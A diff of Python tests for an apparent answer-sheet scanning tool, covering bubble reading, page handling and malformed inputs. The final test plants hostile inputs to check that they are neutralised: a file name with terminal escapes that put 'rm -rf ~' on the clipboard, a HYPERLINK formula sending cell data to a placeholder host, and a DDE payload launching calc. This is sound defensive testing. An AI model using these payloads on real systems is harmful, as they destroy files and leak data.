@@ -284,3 +284,248 @@ def test_a_concept_answer_cell_says_it_is_on_the_sheet(sheets: tuple[Sheets, Pat
     answer_column = mark_column.rsplit(" mark", 1)[0]
     assert row[mark_column] == "1"
     assert row[answer_column] == scan.WRITTEN_ON_SHEET
+
+
+def test_two_bubbles_in_a_column_offer_the_likely_reading(sheets: tuple[Sheets, Path]) -> None:
+    made, _ = sheets
+    field = next(
+        f for f in made.layout["fields"] if f["kind"] == "number" and f["entries"] == 2 and f["entry"] == 0
+    )
+    sibling = next(f for f in made.layout["fields"] if f["column"] == field["column"] and f["entry"] == 1)
+    fid, last = field["id"], field["grid"]["integers"] - 1
+    marks = {f"{fid}.i{last - 1}.1": "full", f"{fid}.i{last}.2": "full", f"{fid}.i{last}.7": "full"}
+    marks[f"{sibling['id']}.i{last}.5"] = "full"  # the vector's other entry: 5
+    written = {f"{fid}.i{last - 1}": "1", f"{fid}.i{last}": "2", f"{sibling['id']}.i{last}": "5"}
+    rng = np.random.default_rng(4)
+    image = made.fill(field["page"], marks, 300, rng, pens.PEN, written=written)
+    # one stroke of an X that the pen lifted before finishing: past the 7's circle on one side only
+    b = made.bubbles[f"{fid}.i{last}.7"]
+    x, y, r = (v * 300 / 72 for v in (b["x"], b["y"], b["r"]))
+    cv2.line(image, (int(x), int(y)), (int(x + 2.1 * r), int(y + 2.1 * r)), (30,), 3)
+    gray = cv2.imdecode(
+        np.frombuffer(pens.scan(image, pens.Scanner(300, angle=0.7, noise=2), rng), np.uint8), 0
+    )
+    layout = scan.layout_from_json(made.layout)
+    read = scan.read_image(gray, layout, "p.png", 0)
+    (flag,) = [f for f in read.flags if f.field == fid]
+    assert "two bubbles filled" in flag.reason
+    assert flag.likely == "12"
+    assert flag.readings == ("12", "17")
+    # the answers file holds the whole vector: the readings are offered whole
+    item = next(i for i in scan.assemble(layout, [read]).review if i.field == fid)
+    assert scan.readings(item) == ["[12, 5]", "[17, 5]"]
+    assert scan.ReviewItem.from_json(item.to_json()).likely == "[12, 5]"
+    # with the other entry in doubt as well, no whole reading can be offered
+    read.values[field["column"]].pop(1)
+    item = next(i for i in scan.assemble(layout, [read]).review if i.field == fid)
+    assert not scan.readings(item)
+    assert not item.likely
+
+
+def test_a_folder_of_scans_is_read_in_natural_order(tmp_path: Path) -> None:
+    for name in ("page-10.png", "page-2.JPG", "notes.txt", "page-1.pdf"):
+        (tmp_path / name).write_bytes(b"x")
+    (tmp_path / "inner").mkdir()
+    assert [p.name for p in scan.scan_files([tmp_path])] == ["page-1.pdf", "page-2.JPG", "page-10.png"]
+    (tmp_path / "empty").mkdir()
+    with pytest.raises(scan.ScanError, match="no PDF, PNG or JPEG"):
+        scan.scan_files([tmp_path / "empty"])
+
+
+def test_fix_settles_a_stray_page_and_a_page_not_handed_in(
+    tmp_path: Path, sheets: tuple[Sheets, Path]
+) -> None:
+    import subprocess
+    import sys
+
+    from attnquiz.engine import banks
+    from attnquiz.engine.export.files import write
+    from attnquiz.engine.export.worksheet import plan_class
+
+    made, out = sheets
+    other = tmp_path / "other"
+    write(
+        plan_class(banks.load("week1"), students=2, master_seed=9, per_topic=1),
+        "pdf",
+        other,
+        key=None,
+        jobs=1,
+        answer_sheet=True,
+    )
+    rng = np.random.default_rng(6)
+    folder = tmp_path / "scans"
+    folder.mkdir()
+    key = made.layout["key"]["1"]
+    marks = {b: "full" for ids in key.values() for b in ids}
+    for name, image in (
+        ("a-1.png", made.fill(1, marks, 200, rng, pens.PEN)),  # student 1's page 1; their page 2 never came
+        ("a-2.png", Sheets.load(other).fill(1, {}, 200, rng, pens.PEN)),  # a page of another export
+    ):
+        (folder / name).write_bytes(pens.scan(image, pens.Scanner(200, angle=0.5, noise=2), rng))
+
+    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
+            input=stdin, timeout=600, check=False,
+        )  # fmt: skip
+
+    done = quiz("scan", "scans", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv", "-j", "1")
+    assert done.returncode == 1, done.stdout + done.stderr
+    review = json.loads((tmp_path / "answers.review.json").read_text())
+    kinds = sorted(i["kind"] for i in review["items"] if i["value"] is None)
+    assert kinds == ["missing", "page"], review["items"]
+    assert "page None" not in done.stdout
+    # `ignore` is refused (asked again), then the page is set aside; the missing page is recorded absent
+    done = quiz("scan", "--fix", "-o", "answers.csv", stdin="stray\nignore\nabsent\n")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "Settled 2; 0 left" in done.stdout
+    assert "page None" not in done.stdout
+    review = json.loads((tmp_path / "answers.review.json").read_text())
+    values = {i["kind"]: i["value"] for i in review["items"]}
+    assert values["page"] == scan.STRAY_VALUE
+    assert values["missing"] == scan.ABSENT_VALUE
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "answers.csv").read_text())))
+    page2 = {f["column"] for f in made.layout["fields"] if f["student"] == 1 and f["page"] == 2}
+    assert all(rows[0][c] == "" for c in page2 if c in rows[0])
+    assert not any(cell.startswith(scan.REVIEW_PREFIX) for row in rows for cell in row.values())
+
+
+@pytest.mark.parametrize(
+    "shape", [(1, 3200), (3200, 1), (2, 6400), (10, 32000), (150, 150), (4000, 400), (0, 0), (5, 5, 3)]
+)
+def test_an_image_that_is_no_page_is_one_line_and_the_batch_goes_on(
+    tmp_path: Path, sheets: tuple[Sheets, Path], shape: tuple[int, ...]
+) -> None:
+    made, out = sheets
+    layout = scan.load_layout(out / "answer-sheets.json")
+    sliver = np.full(shape, 255, np.uint8)
+    read = scan.read_image(sliver, layout, "sliver.png", 0)
+    assert read.problem
+    assert "\n" not in read.problem
+    if min(shape[:2]) > 0 and len(shape) == 2:
+        cv2.imwrite(str(tmp_path / "sliver.png"), sliver)
+        (tmp_path / "good.png").write_bytes(
+            pens.scan(
+                made.fill(1, {}, 200, np.random.default_rng(1), pens.PEN),
+                pens.Scanner(200),
+                np.random.default_rng(1),
+            )
+        )
+        pages = scan.read_scans([tmp_path / "sliver.png", tmp_path / "good.png"], layout, jobs=1)
+        result = scan.assemble(layout, pages)
+        assert [p.problem == "" for p in pages] == [False, True]
+        scan.write_outputs(result, tmp_path / "answers.csv", tmp_path / "answers.review.json")
+        assert (tmp_path / "answers.csv").read_text().count("\n") == 2  # the header and student 1
+
+
+def _damaged(layout: dict[str, Any]) -> dict[str, Any]:
+    copy: dict[str, Any] = json.loads(json.dumps(layout))
+    return copy
+
+
+DAMAGE: dict[str, Any] = {
+    "no corner marks": lambda d: d.update(corner_marks=[]),
+    "three corner marks": lambda d: d.update(corner_marks=d["corner_marks"][:3]),
+    "marks in one place": lambda d: d.update(corner_marks=[d["corner_marks"][0]] * 4),
+    "zero page size": lambda d: d.update(page_size=[0, 0]),
+    "page size a string": lambda d: d.update(page_size="a4"),
+    "huge radius": lambda d: [b.update(r=1e9) for b in d["bubbles"]],
+    "zero radius": lambda d: [b.update(r=0) for b in d["bubbles"]],
+    "nan bubble": lambda d: d["bubbles"][0].update(x=float("nan")),
+    "infinite box": lambda d: d["fields"][0].update(box=[0, 0, float("inf"), 1]),
+    "box of three": lambda d: d["fields"][0].update(box=[0, 0, 1]),
+    "a billion entries": lambda d: [f.update(entries=10**9) for f in d["fields"] if f["kind"] == "number"],
+    "grid without keys": lambda d: [f.update(grid={}) for f in d["fields"] if f["kind"] == "number"],
+    "grid of 10**6 columns": lambda d: [
+        f["grid"].update(integers=10**6) for f in d["fields"] if f["kind"] == "number"
+    ],
+    "title a number": lambda d: [f.update(title=7) for f in d["fields"]],
+    "unknown kind": lambda d: d["fields"][0].update(kind="essay"),
+    "pages a dict": lambda d: d.update(pages={"1": 1}),
+    "qr off the page": lambda d: d["pages"][0].update(qr={"x": 1e12, "y": 0, "size": 66}),
+    "no pages": lambda d: d.update(pages=[]),
+}
+
+
+@pytest.mark.parametrize("damage", sorted(DAMAGE))
+def test_a_damaged_layout_file_is_one_line(tmp_path: Path, sheets: tuple[Sheets, Path], damage: str) -> None:
+    made, out = sheets
+    data = _damaged(made.layout)
+    DAMAGE[damage](data)
+    path = tmp_path / "answer-sheets.json"
+    path.write_text(json.dumps(data))
+    try:
+        layout = scan.load_layout(path)
+    except scan.ScanError as exc:
+        said = str(exc)
+        layout = None
+    if layout is None:
+        assert "\n" not in said
+        assert "damaged" in said or "not a" in said
+        return
+    # what loads is read and written, page by page, without a traceback
+    pages = scan.read_scans([out / "answer-sheets.pdf"], layout, jobs=1)
+    scan.write_outputs(
+        scan.assemble(layout, pages), tmp_path / "answers.csv", tmp_path / "answers.review.json"
+    )
+
+
+def test_deep_json_is_one_line(tmp_path: Path) -> None:
+    path = tmp_path / "answer-sheets.json"
+    path.write_text("[" * 100_000 + "]" * 100_000)
+    with pytest.raises(scan.ScanError, match="not a JSON file"):
+        scan.load_layout(path)
+
+
+def test_too_many_pages_are_refused_before_any_is_read(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
+    import pypdfium2 as pdfium
+
+    _, out = sheets
+    layout = scan.load_layout(out / "answer-sheets.json")
+    document = pdfium.PdfDocument.new()
+    for _ in range(scan.page_cap(layout) + 5):
+        document.new_page(595, 842)
+    document.save(str(tmp_path / "huge.pdf"))
+    with pytest.raises(scan.ScanError, match="is it the right file"):
+        scan.read_scans([tmp_path / "huge.pdf"], layout, jobs=1)
+
+
+def test_terminal_and_spreadsheet_are_never_commanded(tmp_path: Path, sheets: tuple[Sheets, Path]) -> None:
+    import subprocess
+    import sys
+
+    made, out = sheets
+    rng = np.random.default_rng(8)
+    page = made.page_image(1, 200).copy()
+    qr = made.layout["pages"][0]["qr"]
+    f = 200 / 72
+    page[
+        int(qr["y"] * f) : int((qr["y"] + qr["size"]) * f), int(qr["x"] * f) : int((qr["x"] + qr["size"]) * f)
+    ] = 255
+    hostile = "scan\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\u202e.png"
+    (tmp_path / hostile).write_bytes(pens.scan(page, pens.Scanner(200), rng))
+    field = _number_field(made)
+    marks = {f"{field['id']}.i{field['grid']['integers'] - 1}.4": "faint"}
+    (tmp_path / "b.png").write_bytes(
+        pens.scan(made.fill(field["page"], marks, 200, rng, pens.PEN), pens.Scanner(200), rng)
+    )
+
+    def quiz(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "attnquiz", *args], cwd=tmp_path, capture_output=True, text=True,
+            input=stdin, timeout=600, check=False,
+        )  # fmt: skip
+
+    done = quiz("scan", hostile, "b.png", "--sheets", str(out / "answer-sheets.json"), "-o", "answers.csv")
+    assert done.returncode == 1, done.stdout + done.stderr
+    typed = '=HYPERLINK("http://x.test/?"&A1)\n-HYPERLINK("http://x.test")\n+cmd|\' /C calc\'!A0\n'
+    done = quiz("scan", "--fix", "-o", "answers.csv", stdin=f"stray\n{typed}-4\n" + "skip\n" * 5)
+    for text in (done.stdout, done.stderr):
+        assert "\x1b" not in text
+        assert "\x07" not in text
+        assert "\u202e" not in text
+    assert "spreadsheet" in done.stdout
+    cells = (tmp_path / "answers.csv").read_text()
+    assert "HYPERLINK" not in cells
+    assert "cmd|" not in cells
+    assert "-4" in cells  # a signed number is an answer, not a formula
